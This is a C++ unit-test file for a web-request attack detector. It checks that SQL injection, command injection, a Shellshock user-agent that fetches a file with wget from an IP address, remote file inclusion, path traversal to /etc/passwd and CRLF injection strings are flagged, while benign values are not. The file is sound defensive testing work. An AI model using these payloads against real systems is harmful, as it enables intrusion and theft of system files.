// The value checks (src/detect/checks.cc): attacks from the issue and from real tools are
// caught, ordinary values are not.
#include <gtest/gtest.h>

#include <string>

#include "detect/checks.h"

namespace keikai::detect {
namespace {

bool Check(std::string_view id, std::string_view value, std::string_view name = "q") {
  for (const CheckSpec& c : Checks()) {
    if (c.id == id) return c.fn(CheckInput{value, name, CharClasses(value)}, nullptr);
  }
  ADD_FAILURE() << "no check " << id;
  return false;
}

TEST(Checks, SqlInjectionFromSqlmapAndTheIssue) {
  for (const char* v : {"1\") where 2055=2055 or elt(9714=5040,5040)-- ",
                        "1) AND 2578=8566-- qItw", "1)));SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000)--",
                        "1 ORDER BY 8912#", "1' or '1'='1", "\" or \"a\"=\"a"}) {
    EXPECT_TRUE(Check("sqli-syntax", v)) << v;
  }
  for (const char* v : {"select a union jack", "how to order by phone", "O'Reilly", "1,2,3",
                        "2022-02-16", "shoes size 27.5", "Tom & Jerry"}) {
    EXPECT_FALSE(Check("sqli-syntax", v)) << v;
  }
  EXPECT_TRUE(Check("sqli-header", ") AND SLEEP(5) AND (7097=7097", "user-agent"));
  for (const char* v : {"')%20or%20('x'='x", "') or ('x'='x", "' or username like '%",
                        ";waitfor\tdelay\t'0:0:5'--1", "));waitfor/**/delay/**/'0:0:5'--1",
                        "1 and sleep(5)", "1' AND BENCHMARK(5000000,MD5(1))#"}) {
    EXPECT_TRUE(Check("sqli-syntax", v)) << v;
  }
  for (const char* v : {"I'll sleep (maybe)", "he said \"hi\" or waved = fine", "it's (or was) like that",
                        "good night sleep tight", "coffee (or tea)"}) {
    EXPECT_FALSE(Check("sqli-syntax", v)) << v;
  }
}

TEST(Checks, CommandInjection) {
  for (const char* v : {";env;", "3\nenv;", "|env", "a`sleep 60`", "x;cat /etc/passwd", "1|id",
                        "1&&whoami", "$(uname -a)", "x; /bin/sh -c ls", "a${IFS}&&${IFS}id",
                        "127.0.0.1; ping -c 3 203.0.113.9", "1;sleep 5;"}) {
    EXPECT_TRUE(Check("cmd-injection", v)) << v;
  }
  EXPECT_TRUE(Check("cmd-injection", "a;exit(md5('w4p1t1_md5'));#"));
  EXPECT_TRUE(Check("cmd-injection", "\".system('id').\""));
  for (const char* v : {"R&D; id card", "Tom & Jerry", "cats | dogs", "a;b", "Q&A: sleep better",
                        "rock&roll", "salt & pepper (fine)", "price: 100; tax (10%)"}) {
    EXPECT_FALSE(Check("cmd-injection", v)) << v;
  }
  // In a user agent "; " separates comments.
  EXPECT_FALSE(Check("cmd-header", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "user-agent"));
  EXPECT_FALSE(Check("cmd-header", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0", "user-agent"));
  EXPECT_FALSE(Check("cmd-header", "Mozilla/5.0 (Windows; U; Windows NT 6.0; id; rv:1.9.1.6) Gecko/20091201 Firefox/3.5.6", "user-agent"));
  EXPECT_TRUE(Check("cmd-header", "() { :; }; /bin/bash -c 'wget http://203.0.113.9/x'", "user-agent"));
  EXPECT_TRUE(Check("cmd-header", "x|id", "user-agent"));
}

TEST(Checks, FileInclusion) {
  EXPECT_TRUE(Check("file-inclusion", "https://example.net/e.php", "id"));
  EXPECT_TRUE(Check("file-inclusion", "http://203.0.113.9/shell.txt?", "page"));
  EXPECT_TRUE(Check("file-inclusion", "http://example.net/", "include"));
  EXPECT_TRUE(Check("file-inclusion", "php://filter/convert.base64-encode/resource=index.php", "x"));
  EXPECT_FALSE(Check("file-inclusion", "https://shop.example.jp/cart.php", "return_url"));
  EXPECT_FALSE(Check("file-inclusion", "https://www.google.com/", "ref"));
  EXPECT_FALSE(Check("file-inclusion", "https://example.jp/item/12", "share"));
}

TEST(Checks, LocalFilesAndTraversal) {
  for (const char* v : {"/etc/services", "/etc/passwd", "../../../etc/passwd", "..\\..\\windows\\win.ini",
                        "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%252e%252e%252fetc", "..%c0%af..%c0%afetc",
                        "%u002e%u002e%u2215etc", "....//....//etc/passwd", "c:\\windows\\system32\\drivers\\etc\\hosts",
                        "file:///etc/hosts", "/proc/self/environ"}) {
    EXPECT_TRUE(Check("local-file", v)) << v;
  }
  for (const char* v : {"/category/shoes", "/img/a.png", "1.5", "v1..v2", "https://example.jp/a/b",
                        "/news/2022/02", "..."}) {
    EXPECT_FALSE(Check("local-file", v)) << v;
  }
}

TEST(Checks, Crlf) {
  EXPECT_TRUE(Check("crlf-injection", "x\r\nSet-Cookie: a=b"));
  EXPECT_TRUE(Check("crlf-injection", "%0d%0aLocation:%20http://evil"));
  EXPECT_TRUE(Check("crlf-injection", "/%250d%250aSet-Cookie:x=1", "path"));
  EXPECT_FALSE(Check("crlf-injection", "line one\nline two"));
  EXPECT_FALSE(Check("crlf-injection", "100%"));
}

// Long runs of the characters that start a shape and are also skipped after one (')' for SQL,
// '|' and '&' for commands, '.' for PHP calls) were rescanned from every position: a 64 KiB log
// value cost about a second. Each check must read such a value in one pass, and still find an
// attack after the run. (No timing assertion: a quadratic check makes this test run for hours.)
TEST(Checks, LongRunsOfShapeCharactersStayLinear) {
  const std::size_t n = std::size_t{1} << 20;
  for (const char c : {')', '|', '&', '.', '(', ';', '\'', '"', '{', '}'}) {
    const std::string run(n, c);
    for (const CheckSpec& spec : Checks()) {
      for (const char* name : {"q", "user-agent"}) {
        (void)spec.fn(CheckInput{run, name, CharClasses(run)}, nullptr);
      }
    }
  }
  EXPECT_TRUE(Check("sqli-syntax", std::string(n, ')') + "' or 'a'='a"));
  EXPECT_TRUE(Check("cmd-injection", std::string(n, '|') + ";cat /etc/passwd"));
  EXPECT_TRUE(Check("cmd-injection", "(" + std::string(n, '.') + "';system('id');#"));
}

}  // namespace
}  // namespace keikai::detect
